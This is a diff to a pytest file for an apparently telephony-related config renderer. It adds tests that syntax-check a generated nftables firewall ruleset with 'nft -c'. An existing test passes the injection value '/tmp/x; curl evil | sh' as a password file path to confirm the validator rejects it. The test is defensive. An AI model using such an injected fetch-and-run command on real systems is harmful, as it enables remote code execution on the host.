@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import ipaddress
+import shutil
+import subprocess
 import xml.etree.ElementTree as ET
 from pathlib import Path
 
@@ -185,3 +187,23 @@ def test_secret_path_cannot_inject_shell(policy: DialPolicy) -> None:
     raw["trunk"] = {**raw["trunk"], "password_file": "/tmp/x; curl evil | sh"}
     with pytest.raises(ConfigError, match="plain absolute path"):
         render.render(DialPolicy.from_mapping(raw))
+
+
+def _nft_check(path: Path) -> subprocess.CompletedProcess[str]:
+    nft = shutil.which("nft")
+    if not nft:
+        pytest.skip("nft (Debian package nftables) is not installed")
+    proc = subprocess.run([nft, "-c", "-f", str(path)], capture_output=True, text=True, timeout=60, check=False)
+    if proc.returncode and ("Operation not permitted" in proc.stderr or "netlink" in proc.stderr.lower()):
+        pytest.skip(f"nft -c cannot run here: {proc.stderr.strip()[:120]}")
+    return proc
+
+
+def test_nftables_ruleset_passes_nft_check(files: dict[str, str], tmp_path: Path) -> None:
+    path = tmp_path / "esl-agent.nft"
+    path.write_text(files["firewall/nftables.conf"])
+    proc = _nft_check(path)
+    assert proc.returncode == 0, proc.stderr
+    broken = tmp_path / "broken.nft"
+    broken.write_text(files["firewall/nftables.conf"].replace("policy drop;", "policy dorp;"))
+    assert _nft_check(broken).returncode != 0
